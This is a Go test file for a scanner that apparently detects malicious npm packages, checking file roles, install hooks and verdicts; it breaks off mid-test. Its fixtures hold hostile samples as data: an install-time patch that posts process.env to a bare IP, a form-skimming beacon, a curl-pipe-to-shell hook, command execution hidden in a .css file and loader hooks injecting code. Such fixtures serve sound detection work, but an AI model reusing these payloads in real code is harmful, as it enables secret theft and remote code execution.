package analyze

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/depfence/depfence/internal/archive"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
)

type fakeRule struct {
	id      finding.RuleID
	version int
	sev     finding.Severity
	sig     Signal
	check   func(t *Target, r Reporter) error
}

func (f fakeRule) Meta() Meta {
	return Meta{ID: f.id, Version: f.version, Title: "fake", DefaultSeverity: f.sev, Signal: f.sig}
}

func (f fakeRule) Check(ctx context.Context, t *Target, r Reporter) error { return f.check(t, r) }

func pkgFS(files map[string]string) fstest.MapFS {
	m := fstest.MapFS{}
	for k, v := range files {
		m[k] = &fstest.MapFile{Data: []byte(v)}
	}
	return m
}

func TestRuleFailuresAreData(t *testing.T) {
	report := fakeRule{id: "x/report", version: 1, sev: finding.SeverityLow, sig: SigMisc, check: func(t *Target, r Reporter) error {
		r.Report(Instance{File: "index.js", Line: 1, Message: "hello"})
		return nil
	}}
	boom := fakeRule{id: "x/panic", version: 1, check: func(t *Target, r Reporter) error { panic("boom") }}
	fail := fakeRule{id: "x/error", version: 1, check: func(t *Target, r Reporter) error { return errors.New("bad input") }}
	eng, err := New([]Rule{boom, fail, report})
	if err != nil {
		t.Fatal(err)
	}
	res, err := eng.Analyze(context.Background(), pkgFS(map[string]string{"package.json": `{"name":"a","version":"1.0.0"}`, "index.js": "module.exports = 1"}), finding.Package{})
	if err != nil {
		t.Fatal(err)
	}
	got := map[finding.RuleID]Status{}
	for _, s := range res.Rules {
		got[s.Rule] = s.Status
	}
	want := map[finding.RuleID]Status{"x/panic": StatusPanic, "x/error": StatusError, "x/report": StatusOK}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("statuses (-want +got):\n%s", d)
	}
	if !res.Incomplete || len(res.Findings) != 1 || res.Findings[0].Role != RoleEntry || res.Package.Name != "a" {
		t.Errorf("result = %+v", res)
	}
}

func TestDuplicateRule(t *testing.T) {
	r := fakeRule{id: "x/a", check: func(*Target, Reporter) error { return nil }}
	if _, err := New([]Rule{r, r}); err == nil {
		t.Error("duplicate rule IDs accepted")
	}
}

func TestFingerprintTracksVersions(t *testing.T) {
	a, _ := New([]Rule{fakeRule{id: "x/a", version: 1}})
	b, _ := New([]Rule{fakeRule{id: "x/a", version: 2}})
	if a.Fingerprint() == b.Fingerprint() {
		t.Error("fingerprint ignores rule version")
	}
}

func TestResultJSONRoundTrip(t *testing.T) {
	rule := fakeRule{id: "x/crit", version: 3, sev: finding.SeverityCritical, sig: SigRemoteExec, check: func(t *Target, r Reporter) error {
		r.Report(Instance{File: "install.js", Line: 2, Message: "m", Evidence: []finding.Evidence{{Snippet: "s", Decoded: "d"}}, Confidence: finding.ConfidenceHigh})
		return nil
	}}
	eng, _ := New([]Rule{rule})
	fsys := pkgFS(map[string]string{"package.json": `{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`, "install.js": "x()"})
	res, _ := eng.Analyze(context.Background(), fsys, finding.Package{})
	b, err := json.Marshal(res)
	if err != nil {
		t.Fatal(err)
	}
	var back Result
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(*res, back); d != "" {
		t.Errorf("round trip (-want +got):\n%s", d)
	}
	if res.Verdict != VerdictMalicious || res.Findings[0].Role != RoleInstall {
		t.Errorf("verdict %s role %s", res.Verdict, res.Findings[0].Role)
	}
}

func TestRoles(t *testing.T) {
	fsys := pkgFS(map[string]string{
		"package.json":      `{"name":"a","version":"1.0.0","main":"lib/index.js","bin":{"a":"./bin/cli.js"},"scripts":{"postinstall":"node scripts/setup.js && sh ./hook.sh","test":"node test/x.js"}}`,
		"lib/index.js":      "require('./util')",
		"lib/util.js":       "",
		"lib/unused.js":     "",
		"bin/cli.js":        "",
		"scripts/setup.js":  "require('../lib/util.js')",
		"hook.sh":           "echo hi",
		"test/x.test.js":    "",
		"docs/example.js":   "",
		"types/index.d.ts":  "",
		"examples/demo.mjs": "",
	})
	tg := NewTarget(fsys, DefaultLimits())
	want := map[string]Role{
		"lib/index.js": RoleEntry, "lib/util.js": RoleInstall, "lib/unused.js": RoleOther, "bin/cli.js": RoleEntry,
		"scripts/setup.js": RoleInstall, "hook.sh": RoleInstall, "test/x.test.js": RoleTest, "docs/example.js": RoleDocs,
		"types/index.d.ts": RoleTypes, "examples/demo.mjs": RoleDocs,
	}
	if d := cmp.Diff(want, rolesOf(tg, want)); d != "" {
		t.Errorf("roles (-want +got):\n%s", d)
	}
	if h := tg.InstallHook("scripts/setup.js"); h != "postinstall" {
		t.Errorf("hook = %q", h)
	}
}

// rolesOf returns the role tg gives each file of want.
func rolesOf(tg *Target, want map[string]Role) map[string]Role {
	got := map[string]Role{}
	for f := range want {
		got[f] = tg.Role(f)
	}
	return got
}

// TestFixtureLoadedByEntry: catalogues under test/fixtures that the entry
// point loads by a name it computes (the directory read from the package's
// own manifest) run with it; the fixtures nothing loads stay tests.
func TestFixtureLoadedByEntry(t *testing.T) {
	fsys := pkgFS(map[string]string{
		"package.json":           `{"name":"a","version":"1.0.0","main":"src/index.js","validator":{"localeDir":"test/fixtures"}}`,
		"src/index.js":           "const path = require('path'); const pkg = require('../package.json'), cfg = pkg.validator || {};\nexports.load = (lang) => require(path.join(__dirname, '..', cfg.localeDir || 'locales', lang));",
		"test/fixtures/en.js":    "module.exports = {}",
		"test/fixtures/de.js":    "module.exports = {}",
		"test/fixtures/sub/x.js": "",
		"test/run.test.js":       "require('../src')",
	})
	tg := NewTarget(fsys, DefaultLimits())
	want := map[string]Role{"test/fixtures/en.js": RoleEntry, "test/fixtures/de.js": RoleEntry, "test/fixtures/sub/x.js": RoleTest, "test/run.test.js": RoleTest}
	if d := cmp.Diff(want, rolesOf(tg, want)); d != "" {
		t.Errorf("roles (-want +got):\n%s", d)
	}
}

// TestImporters: the files that load a file, however they spell it
// (extension, directory index, ../), each once and in Code order.
func TestImporters(t *testing.T) {
	tg := NewTarget(pkgFS(map[string]string{
		"package.json":   `{"name":"a","version":"1.0.0","main":"index.js"}`,
		"index.js":       "require('./lib/util'); require('./lib/util.js'); import('./lib')",
		"lib/index.js":   "module.exports = require('./util')",
		"lib/util.js":    "module.exports = 1",
		"lib/other.js":   "require('../index')",
		"test/a.test.js": "require('fs')",
	}), DefaultLimits())
	names := func(name string) []string {
		var out []string
		for _, f := range tg.Importers(name) {
			out = append(out, f.Name)
		}
		return out
	}
	for name, want := range map[string][]string{
		"lib/util.js":    {"index.js", "lib/index.js"},
		"lib/index.js":   {"index.js"},
		"index.js":       {"lib/other.js"},
		"test/a.test.js": nil,
	} {
		if d := cmp.Diff(want, names(name)); d != "" {
			t.Errorf("Importers(%s) (-want +got):\n%s", name, d)
		}
	}
}

// TestLargeInstallReach: a post-install step that loads a large tool's
// modules keeps the install role for itself and what it loads directly;
// the deeper files are left to the entry points. A small chain keeps it
// all the way down.
func TestLargeInstallReach(t *testing.T) {
	files := map[string]string{
		"package.json":        `{"name":"a","version":"1.0.0","main":"lib/index.js","scripts":{"postinstall":"node -e \"try{require('./bin/post-install')}catch(e){}\""}}`,
		"bin/post-install.js": "require('../lib/a')",
		"lib/a.js":            "require('./b')",
		"lib/b.js":            "require('./c')",
		"lib/c.js":            "",
		"lib/index.js":        "require('./c')",
	}
	small := map[string]Role{"bin/post-install.js": RoleInstall, "lib/a.js": RoleInstall, "lib/b.js": RoleInstall, "lib/c.js": RoleInstall}
	roles := func(fsys fs.FS) map[string]Role { return rolesOf(NewTarget(fsys, DefaultLimits()), small) }
	if d := cmp.Diff(small, roles(pkgFS(files))); d != "" {
		t.Errorf("small reach (-want +got):\n%s", d)
	}
	var many strings.Builder
	for i := range maxInstallReach {
		fmt.Fprintf(&many, "require('./m%d');", i)
		files[fmt.Sprintf("lib/m%d.js", i)] = ""
	}
	files["lib/b.js"] = "require('./c');" + many.String()
	large := map[string]Role{"bin/post-install.js": RoleInstall, "lib/a.js": RoleInstall, "lib/b.js": RoleOther, "lib/c.js": RoleEntry}
	if d := cmp.Diff(large, roles(pkgFS(files))); d != "" {
		t.Errorf("large reach (-want +got):\n%s", d)
	}
}

func TestInlineInstallScript(t *testing.T) {
	fsys := pkgFS(map[string]string{"package.json": `{"name":"a","version":"1.0.0","scripts":{"preinstall":"node -e \"require('child_process').exec('id')\""}}`})
	tg := NewTarget(fsys, DefaultLimits())
	files := tg.CodeFiles()
	if len(files) != 1 || tg.Role(files[0]) != RoleInstall {
		t.Fatalf("code files %v", files)
	}
	f, err := tg.Facts(files[0])
	if err != nil || len(f.Calls) == 0 {
		t.Fatalf("facts %+v %v", f, err)
	}
}

func TestFilesRunAsCode(t *testing.T) {
	fsys := pkgFS(map[string]string{
		"package.json":     `{"name":"a","version":"1.0.0","main":"index.js","scripts":{"install":"node setup.js"}}`,
		"index.js":         "require('./lib/words.txt'); import('./style.css')",
		"lib/words.txt":    "require('child_process').exec('id')",
		"setup.js":         "const fs = require('fs'); eval(fs.readFileSync(require('path').join(__dirname, 'data', 'seed.log'), 'utf8')); fs.readFileSync('notes.txt')",
		"data/seed.log":    "require('os').hostname()",
		"notes.txt":        "require('net')",
		"style.css":        "body { color: red }",
		"unused/other.txt": "require('dgram')",
	})
	tg := NewTarget(fsys, DefaultLimits())
	files := tg.CodeFiles()
	for f, role := range map[string]Role{"lib/words.txt": RoleEntry, "data/seed.log": RoleInstall} {
		if !slices.Contains(files, f) || tg.Role(f) != role {
			t.Errorf("%s: in code files %v, role %s, want %s", f, slices.Contains(files, f), tg.Role(f), role)
		}
	}
	// read but not run, not reached, or an asset: not code
	for _, f := range []string{"notes.txt", "unused/other.txt", "style.css"} {
		if slices.Contains(files, f) {
			t.Errorf("%s taken for code: %v", f, files)
		}
	}
	if f, err := tg.Facts("lib/words.txt"); err != nil || f.Mode != jsast.ModeAST || len(f.Calls) == 0 {
		t.Errorf("words.txt facts %+v %v", f, err)
	}
}

// An entry point the manifest names is code when its text is, whatever
// its extension says: node's CommonJS loader runs it as .js. A style
// sheet the exports map names is not.
func TestDisguisedEntry(t *testing.T) {
	fsys := pkgFS(map[string]string{
		"package.json":    `{"name":"a","version":"1.0.0","main":"./dist/index.js","exports":{".":{"types":"./dist/index.d.ts","node":"./dist/tokens.css","default":"./dist/index.js"},"./theme.css":"./dist/theme.css"}}`,
		"dist/index.js":   "module.exports = 1",
		"dist/tokens.css": "/*! tokens\n:root { --r: 1px; }\n*/\nmodule.exports = require('./index.js'); require('child_process').exec(process.env.X)",
		"dist/theme.css":  ":root { --r: 1px; } body { background: url(img.png) }",
		"dist/index.d.ts": "export declare const load: typeof import('./index.js'); export declare function exec(cmd: string): void; // process.env",
	})
	tg := NewTarget(fsys, DefaultLimits())
	files := tg.CodeFiles()
	if !slices.Contains(files, "dist/tokens.css") || tg.Role("dist/tokens.css") != RoleEntry {
		t.Errorf("tokens.css: in code files %v, role %s", files, tg.Role("dist/tokens.css"))
	}
	if slices.Contains(files, "dist/theme.css") || slices.Contains(files, "dist/index.d.ts") {
		t.Errorf("a style sheet or declarations taken for code: %v", files)
	}
}

// A script the file starts with Node runs when the file does: it takes
// the file's role.
func TestNodeSpawnedScriptRole(t *testing.T) {
	fsys := pkgFS(map[string]string{
		"package.json":       `{"name":"a","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node scripts/check.js"}}`,
		"scripts/check.js":   "const path = require('path'); require('child_process').spawn(process.execPath, ['--no-warnings', path.join(__dirname, 'probe.mjs')], {detached: true})",
		"scripts/probe.mjs":  "await fetch('https://x.example.invalid/')",
		"index.js":           "require('child_process').fork(require('path').join(__dirname, 'bg', 'worker.js'))",
		"bg/worker.js":       "process.on('message', m => m)",
		"scripts/unused.mjs": "export default 1",
	})
	tg := NewTarget(fsys, DefaultLimits())
	for f, role := range map[string]Role{"scripts/probe.mjs": RoleInstall, "bg/worker.js": RoleEntry, "scripts/unused.mjs": RoleOther} {
		if got := tg.Role(f); got != role {
			t.Errorf("%s: role %s, want %s", f, got, role)
		}
	}
}

// Code kept as text in one module and run from another is analysed as
// code of the file that runs it; text no sink receives is not.
func TestEmbeddedCode(t *testing.T) {
	code := "const cp = require('child_process'); cp.exec(process.env.CMD || 'id', () => {}); module.exports = 1;"
	fsys := pkgFS(map[string]string{
		"package.json": `{"name":"a","version":"1.0.0","main":"index.js"}`,
		"index.js":     "const { workerSource } = require('./lib/boot'); const { Worker } = require('worker_threads'); new Worker(workerSource(), { eval: true }); require('./lib/docs')",
		"lib/boot.js":  "const S = `" + code + "`; exports.workerSource = () => S;",
		"lib/docs.js":  "exports.example = `" + code + "`;",
	})
	tg := NewTarget(fsys, DefaultLimits())
	var names []string
	for _, f := range tg.Code() {
		names = append(names, f.Name)
		if strings.HasPrefix(f.Name, "lib/boot.js#text:") {
			if f.Role != RoleEntry || !slices.ContainsFunc(f.Facts.Calls, func(c jsast.Call) bool { return c.Callee == "child_process.exec" }) {
				t.Errorf("embedded code %s: role %s, calls %+v", f.Name, f.Role, f.Facts.Calls)
			}
		}
	}
	if !slices.ContainsFunc(names, func(n string) bool { return strings.HasPrefix(n, "lib/boot.js#text:") }) {
		t.Errorf("worker source not analysed: %v", names)
	}
	if slices.ContainsFunc(names, func(n string) bool { return strings.HasPrefix(n, "lib/docs.js#") }) {
		t.Errorf("text no sink receives analysed as code: %v", names)
	}
}

// A build plugin that appends a runtime built in another module to the
// bundles it emits: the runtime, built around a run-time value, is
// analysed as code of the plugin's entry point, and findings on it take
// that role. The same text nothing emits is not code.
func TestEmbeddedBuildOutput(t *testing.T) {
	runtime := `exports.runtimeFor = (id) => '(function(){var c="' + id + '";document.addEventListener("submit",function(){` +
		`var o={};document.querySelectorAll("input").forEach(function(i){o[i.name]=i.value});` +
		`new Image().src="https://t.example/p.gif?c="+c+"&d="+btoa(JSON.stringify(o))},true)})();';`
	for _, emits := range []bool{true, false} {
		index := "const { runtimeFor } = require('./lib/runtime');\n"
		if emits {
			index += "module.exports = (compilation, sources, name, asset) => compilation.updateAsset(name, new sources.ConcatSource(asset, runtimeFor(name)));"
		} else {
			index += "module.exports = (name) => runtimeFor(name).length;"
		}
		tg := NewTarget(pkgFS(map[string]string{
			"package.json":   `{"name":"a","version":"1.0.0","main":"index.js"}`,
			"index.js":       index,
			"lib/runtime.js": runtime,
		}), DefaultLimits())
		var got string
		for _, f := range tg.Code() {
			if strings.HasPrefix(f.Name, "lib/runtime.js#text:") {
				got = f.Name
				if !slices.ContainsFunc(f.Facts.Members, func(m jsast.Member) bool { return m.Name == "document.querySelectorAll" }) &&
					!slices.ContainsFunc(f.Facts.Calls, func(c jsast.Call) bool { return c.Callee == "document.querySelectorAll" }) {
					t.Errorf("emitted runtime's facts lack the page reads: %+v", f.Facts.Calls)
				}
			}
		}
		switch {
		case emits && got == "":
			t.Error("runtime a plugin emits not analysed as code")
		case emits && tg.Role(got) != RoleEntry:
			t.Errorf("role of %s = %s, want entry", got, tg.Role(got))
		case !emits && got != "":
			t.Errorf("text nothing emits analysed as code: %s", got)
		}
	}
}

// node-gyp runs binding.gyp's command expansions while it configures the
// build: the files they run with node are install-time code.
func TestGypCommandExpansions(t *testing.T) {
	gyp := `{ "variables": { "cfg": "<!(node tools/gen.js)" }, "targets": [{ "target_name": "x",
  "include_dirs": ["<!@(node -p \"require('node-addon-api').include\")"], "libraries": ["<!@(pkg-config --libs (x))"] }],
  "v%": "<!(node -p \"process.versions.node.split(\\\".\\\")[0]\")" }`
	var got []string
	for _, c := range GypCommands(gyp) {
		got = append(got, c.Command)
	}
	if want := []string{"node tools/gen.js", `node -p "require('node-addon-api').include"`, "pkg-config --libs (x)", `node -p "process.versions.node.split(\".\")[0]"`}; !slices.Equal(got, want) {
		t.Errorf("GypCommands = %q, want %q", got, want)
	}
	for _, tc := range []struct {
		scripts string
		want    Role
	}{
		{``, RoleInstall}, // the implicit node-gyp rebuild
		{`"install": "prebuild-install || node-gyp rebuild"`, RoleInstall},          // a script that builds
		{`"install": "node scripts/download-binary.js"`, RoleOther},                 // node-gyp never runs
		{`"preinstall": "echo hi", "postinstall": "node-gyp rebuild"`, RoleInstall}, // built after all
	} {
		tg := NewTarget(pkgFS(map[string]string{
			"package.json":               `{"name":"a","version":"1.0.0","scripts":{` + tc.scripts + `}}`,
			"binding.gyp":                gyp,
			"tools/gen.js":               "require('fs').writeFileSync('x', '1')",
			"scripts/download-binary.js": "",
		}), DefaultLimits())
		if got := tg.Role("tools/gen.js"); got != tc.want {
			t.Errorf("scripts {%s}: role of tools/gen.js = %s, want %s", tc.scripts, got, tc.want)
		}
	}
}

// A hook on Node's module loader appends code kept as text in a module it
// loads to the modules loaded after it: that text is analysed as code.
// A Babel plugin putting code into the program it transforms through
// template.statements.ast, built by a module it loads, via a variable.
func TestEmbeddedBabelTemplate(t *testing.T) {
	tg := NewTarget(pkgFS(map[string]string{
		"package.json":   `{"name":"a","version":"1.0.0","main":"index.js"}`,
		"index.js":       "const { runtimeHelpers } = require('./lib/helpers');\nmodule.exports = ({ template }) => ({ visitor: { Program: { exit(path, state) { const helper = runtimeHelpers(state.filename); if (helper) path.pushContainer('body', template.statements.ast(helper)) } } } });",
		"lib/helpers.js": "exports.runtimeHelpers = (f) => `;(function(){document.addEventListener('submit', function (e) { var d = {}; e.target.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value }); new Image().src = 'https://t.example/p.gif?d=' + btoa(JSON.stringify(d)) }, true)})();`;",
	}), DefaultLimits())
	if !slices.ContainsFunc(tg.Code(), func(f CodeFile) bool { return strings.HasPrefix(f.Name, "lib/helpers.js#text:") }) {
		t.Error("code a Babel plugin inserts not analysed")
	}
}

func TestLoaderHookCode(t *testing.T) {
	shim := "exports.shim = ['require(\"child_process\").exec(process.env.CMD || \"id\");', 'module.exports.ready = true; // appended to every router'].join('');"
	for _, hooks := range []bool{true, false} {
		index := "const { shim } = require('./lib/shim'); const Module = require('module');\n"
		if hooks {
			index += "const js = Module._extensions['.js']; Module._extensions['.js'] = (m, f) => { const c = m._compile; m._compile = (src) => c.call(m, src + shim, f); js(m, f) };"
		} else {
			index += "module.exports = () => shim.length;"
		}
		tg := NewTarget(pkgFS(map[string]string{
			"package.json": `{"name":"a","version":"1.0.0","main":"index.js"}`,
			"index.js":     index,
			"lib/shim.js":  shim,
		}), DefaultLimits())
		found := false
		for _, f := range tg.Code() {
			if strings.HasPrefix(f.Name, "lib/shim.js#text:") && slices.ContainsFunc(f.Facts.Calls, func(c jsast.Call) bool { return c.Callee == "child_process.exec" }) {
				found = true
			}
		}
		if found != hooks {
			t.Errorf("loader hook %v: shim analysed as code = %v", hooks, found)
		}
	}
}

// TestPatchLinesPlanted covers install-time code appending the lines of a
// .patch file to other packages' files: the lines that read as code are
// analysed as code run at install. The same lines read by a library at
// run time, or a patch of prose, are not.
func TestPatchLinesPlanted(t *testing.T) {
	patch := "--- a/node_modules/dotenv/lib/main.js\n+++ b/node_modules/dotenv/lib/main.js\n" +
		"+;(function(){var h=require('https');h.request({host:'203.0.113.66',path:'/d',method:'POST'}).end(JSON.stringify(process.env))})();\n"
	apply := `const fs = require("fs"), path = require("path"); let target = null;
for (const line of fs.readFileSync(path.join(__dirname, "patches", "x.patch"), "utf8").split("\n")) {
  if (line.startsWith("+++ b/")) target = line.slice(6); else if (line.startsWith("+") && target) fs.appendFileSync(target, line.slice(1)) }`
	for name, c := range map[string]struct {
		script, patch string
		want          bool
	}{
		"at_install":  {`"scripts":{"postinstall":"node apply.js"}`, patch, true},
		"at_run_time": {`"main":"apply.js"`, patch, false},
		"prose_patch": {`"scripts":{"postinstall":"node apply.js"}`, "+++ b/README.md\n+Run the tool with --fix to apply the suggested changes to every file of the project.\n", false},
	} {
		// read as a scan reads it: the archive keeps only what analysis reads
		afs, err := archive.FromDir(pkgFS(map[string]string{
			"package.json":    `{"name":"a","version":"1.0.0",` + c.script + `}`,
			"apply.js":        apply,
			"patches/x.patch": c.patch,
		}), ArchiveLimits())
		if err != nil {
			t.Fatal(err)
		}
		tg := NewTarget(afs, DefaultLimits())
		got := false
		for _, f := range tg.Code() {
			if strings.HasPrefix(f.Name, "apply.js#text:") && f.Role == RoleInstall && slices.ContainsFunc(f.Facts.Calls, func(c jsast.Call) bool { return c.Callee == "https.request" }) {
				got = true
			}
		}
		if got != c.want {
			t.Errorf("%s: patch line analysed as install-time code = %v, want %v", name, got, c.want)
		}
	}
}

func TestPartialPackage(t *testing.T) {
	tg := NewTarget(pkgFS(map[string]string{"postinstall.js": "", "lib/a.js": ""}), DefaultLimits())
	if !tg.Partial() || tg.Role("postinstall.js") != RoleInstall || tg.Role("lib/a.js") != RoleEntry {
		t.Errorf("partial roles: %v %v", tg.Role("postinstall.js"), tg.Role("lib/a.js"))
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	eng, _ := New(nil)
	if _, err := eng.Analyze(ctx, pkgFS(nil), finding.Package{}); err == nil {
		t.Error("cancelled context accepted")
	}
}

// Scripts with no code extension are code when Node runs them: a bin
// with a "#!/usr/bin/env node" line (with or without "./" in package.json),
// a file an install script hands to node, a shebang script nothing names.
// Shell scripts, text and binaries are not.
func TestScriptsWithoutExtension(t *testing.T) {
	fsys := pkgFS(map[string]string{
		"package.json":  `{"name":"a","version":"1.0.0","bin":{"a":"bin/cli","a2":"./bin/other"},"scripts":{"postinstall":"node scripts/setup && sh ./scripts/hook && ./scripts/run"}}`,
		"bin/cli":       "#!/usr/bin/env node\nrequire('child_process').exec('id')",
		"bin/other":     "#!/usr/bin/env -S node --no-warnings\nrequire('os').hostname()",
		"scripts/setup": "require('https').get('https://x.invalid/')",
		"scripts/hook":  "#!/bin/sh\ncurl -s https://x.invalid/ | sh",
		"scripts/run":   "#!/usr/bin/env bun\nrequire('child_process').spawn('id')",
		"tools/gen":     "#!/usr/bin/env node\nrequire('fs').writeFileSync('x', '')",
		"LICENSE":       "MIT License\n\nCopyright (c) someone",
		"bin/native":    "\x7fELF\x02\x01\x01\x00",
		"lib/index.js":  "",
	})
	tg := NewTarget(fsys, DefaultLimits())
	files := tg.CodeFiles()
	for f, role := range map[string]Role{"bin/cli": RoleEntry, "bin/other": RoleEntry, "scripts/setup": RoleInstall, "scripts/run": RoleInstall, "tools/gen": RoleOther} {
		if !slices.Contains(files, f) || tg.Role(f) != role {
			t.Errorf("%s: in code files %v, role %s, want %s", f, slices.Contains(files, f), tg.Role(f), role)
			continue
		}
		if facts, err := tg.Facts(f); err != nil || facts.Mode != jsast.ModeAST || len(facts.Calls) == 0 {
			t.Errorf("%s facts %+v %v", f, facts, err)
		}
	}
	for _, f := range []string{"scripts/hook", "LICENSE", "bin/native"} {
		if slices.Contains(files, f) {
			t.Errorf("%s taken for code: %v", f, files)
		}
	}
	if n := len(files); n != len(slices.Compact(slices.Clone(files))) {
		t.Errorf("a file listed twice: %v", files)
	}
}

// RetainedHead keeps scripts and extensionless text, not binaries.
func TestRetainedHead(t *testing.T) {
	for _, tc := range []struct {
		name, head string
		want       bool
	}{
		{"bin/cli", "#!/usr/bin/env node\n", true},
		{"setup.py", "#!/usr/bin/env python3\n", true},
		{"scripts/setup", "require('x')", true},
		{"LICENSE", "MIT License", true},
		{"bin/tool", "\x7fELF\x02\x01\x01\x00\x00", false},
		{"notes", "caf\xc3", true}, // a character cut off by the head
		{"blob", "\xff\xfe\xfd garbage", false},
		{"image.png", "\x89PNG\r\n", false},
		{"data.bin", "plain text", false},
		// node runs a required file of any extension as JavaScript
		{"man/macros.1", "var o=require('os')", true},
		{"lib/shim.es6", "\ufeff'use strict';\nmodule.exports = 1", true},
		{"man/tool.1", ".TH TOOL 1\n.SH NAME", false},
		// behind a banner comment
		{"dist/tokens.css", "/*! tokens | MIT\n:root { --r: 1px; }\n*/\nmodule.exports = require('./index.js');", true},
		{"dist/site.css", "// generated\n/* theme */ module.exports = {}", true},
		{"dist/app.css", "/*! theme */\n:root { --r: 1px; }", false},
		{"dist/open.css", "/*! a banner longer than the head", false},
		// a Jest snapshot is a CommonJS module of exports[`…`] = `…`
		{"__snapshots__/a.test.js.snap", "// Jest Snapshot v1, https://goo.gl/fbAQLP\n\nexports[`a 1`] = `\"x\"`;", true},
		// a CI workflow kept as a template
		{"templates/lint.yml.tpl", "name: lint\non:\n  push:\n", true},
		{"templates/ci.tmpl", "jobs:\n  test:\n", true},
		{"templates/page.tmpl", "<html><body>on: sale</body></html>", false},
	} {
		if got := RetainedHead(tc.name, []byte(tc.head)); got != tc.want {
			t.Errorf("RetainedHead(%q, %q) = %v, want %v", tc.name, tc.head, got, tc.want)
		}
	}
}

func TestLenientManifest(t *testing.T) {
	for name, tc := range map[string]struct {
		manifest string
		scripts  bool // the preinstall script is read
	}{
		"trailing_commas": {`{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "sh i.sh",},}`, true},
		"comments":        {"{\n // the package\n \"name\": \"x\", /* v */ \"version\": \"1.0.0\", \"scripts\": {\"preinstall\": \"sh i.sh\"}\n}", true},
		"comma_in_string": {`{"name": "x,}", "version": "1.0.0", "scripts": {"preinstall": "sh i.sh // not a comment",}}`, true},
		"broken":          {`{"name": "x", "scripts": {"preinstall": `, false},
	} {
		t.Run(name, func(t *testing.T) {
			tg := NewTarget(pkgFS(map[string]string{"package.json": tc.manifest}), DefaultLimits())
			if tg.ManifestError() == nil {
				t.Fatal("no manifest error for invalid JSON")
			}
			got := len(tg.InstallScripts()) == 1
			if got != tc.scripts {
				t.Fatalf("preinstall read = %v, want %v (scripts %+v)", got, tc.scripts, tg.InstallScripts())
			}
			if tc.scripts && !strings.HasPrefix(tg.InstallScripts()[0].Command, "sh i.sh") {
				t.Errorf("command %q", tg.InstallScripts()[0].Command)
			}
		})
	}
	// a valid manifest has no error
	if err := NewTarget(pkgFS(map[string]string{"package.json": `{"name":"x","version":"1.0.0"}`}), DefaultLimits()).ManifestError(); err != nil {
		t.Errorf("valid manifest: %v", err)
	}
}

// TestExfilClientIsNoEndpoint: a credential store named next to a
// low-confidence mention of an exfiltration service (a chat API's client)
// is no chain; next to the service's endpoint it is.
func TestExfilClientIsNoEndpoint(t *testing.T) {
	verdict := func(conf finding.Confidence) Verdict {
		cred := fakeRule{id: "x/cred", version: 1, sev: finding.SeverityMedium, sig: SigCred, check: func(t *Target, r Reporter) error {
			r.Report(Instance{File: "index.js", Line: 1, Message: "names ~/.ssh"})
			return nil
		}}
		exfil := fakeRule{id: "x/exfil", version: 1, sev: finding.SeverityLow, sig: SigExfil, check: func(t *Target, r Reporter) error {
			r.Report(Instance{File: "index.js", Line: 2, Message: "names a chat API", Confidence: conf})
			return nil
		}}
		eng, err := New([]Rule{cred, exfil})
		if err != nil {
			t.Fatal(err)
		}
		res, err := eng.Analyze(context.Background(), pkgFS(map[string]string{"package.json": `{"name":"a","version":"1.0.0"}`, "index.js": "x()"}), finding.Package{})
		if err != nil {
			t.Fatal(err)
		}
		return res.Verdict
	}
	if v := verdict(finding.ConfidenceLow); v != VerdictOK {
		t.Errorf("with a client: %s, want ok", v)
	}
	if v := verdict(finding.ConfidenceHigh); v != VerdictMalicious {
		t.Errorf("with an endpoint: %s, want malicious", v)
	}
}

// Install-time code that contacts a bare address and starts a detached
// process is a dropper, over however many files: malicious. Either alone,
// or the process started by code that is not run at install, is not.
func TestInstallDropper(t *testing.T) {
	verdict := func(installed, detached bool) Verdict {
		endpoint := fakeRule{id: "x/ip", version: 1, sev: finding.SeverityMedium, sig: SigExfil, check: func(t *Target, r Reporter) error {
			r.Report(Instance{File: "lib/fetch.js", Line: 1, Message: "connects to a hard-coded IP address", Confidence: finding.ConfidenceMedium})
			return nil
		}}
		spawn := fakeRule{id: "x/spawn", version: 1, sev: finding.SeverityHigh, sig: SigSpawn, check: func(t *Target, r Reporter) error {
			if detached {
				r.Report(Instance{File: "lib/run.js", Line: 1, Message: "starts a detached process"})
			}
			return nil
		}}
		eng, err := New([]Rule{endpoint, spawn})
		if err != nil {
			t.Fatal(err)
		}
		pkg := `{"name":"a","version":"1.0.0","main":"index.js"}`
		if installed {
			pkg = `{"name":"a","version":"1.0.0","main":"index.js","scripts":{"install":"node -e \"require('./').prime()\""}}`
		}
		res, err := eng.Analyze(context.Background(), pkgFS(map[string]string{"package.json": pkg,
			"index.js": `exports.prime = () => require("./lib/run")(require("./lib/fetch")())`, "lib/fetch.js": "module.exports = () => 1", "lib/run.js": "module.exports = (x) => x"}), finding.Package{})
		if err != nil {
			t.Fatal(err)
		}
		return res.Verdict
	}
	if v := verdict(true, true); v != VerdictMalicious {
		t.Errorf("install-time address and detached process: %s, want malicious", v)
	}
	if v := verdict(true, false); v == VerdictMalicious {
		t.Errorf("install-time address alone: %s", v)
	}
	if v := verdict(false, true); v == VerdictMalicious {
		t.Errorf("not run at install: %s", v)
	}
}

// require("./") in an install script's node -e is the package's main
// file, and what it loads runs at install too.
func TestInstallRequiresPackageRoot(t *testing.T) {
	tg := NewTarget(pkgFS(map[string]string{
		"package.json": `{"name":"a","version":"1.0.0","main":"lib/main.js","scripts":{"install":"node -e \"require('./').prime()\""}}`,
		"lib/main.js":  `module.exports = require("./cache")`, "lib/cache.js": "exports.prime = () => 1", "other.js": "1",
	}), DefaultLimits())
	for _, f := range []string{"lib/main.js", "lib/cache.js"} {
		if r := tg.Role(f); r != RoleInstall {
			t.Errorf("%s: role %s, want install", f, r)
		}
	}
	if r := tg.Role("other.js"); r == RoleInstall {
		t.Errorf("other.js: role %s", r)
	}
	// require("..") from a script in a directory of the package
	tg = NewTarget(pkgFS(map[string]string{
